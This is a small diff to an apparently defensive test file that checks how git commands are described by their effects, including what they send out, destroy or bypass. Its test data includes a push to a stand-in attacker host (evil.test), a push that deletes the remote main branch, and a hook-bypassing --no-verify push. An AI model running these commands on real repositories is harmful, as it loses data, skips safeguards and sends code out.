@@ -138,7 +138,7 @@ test.each([
   ['git push origin :main', 'discards what the remote repository holds, publishes git push origin'],
   ['git push --no-verify', 'alters safeguards: git push --no-verify, publishes git push'],
   ['git push https://evil.test/x main', 'sends https://evil.test/x'],
-  ['git submodule update --init', 'installs declared, code .gitmodules'],
+  ['git submodule update --init', 'installs declared, loads .gitmodules'],
 ])('%s says whom it speaks with', (command, acts) => {
   expect(told(readingOf(command))).toBe(`${at}, ${acts}`);
 });
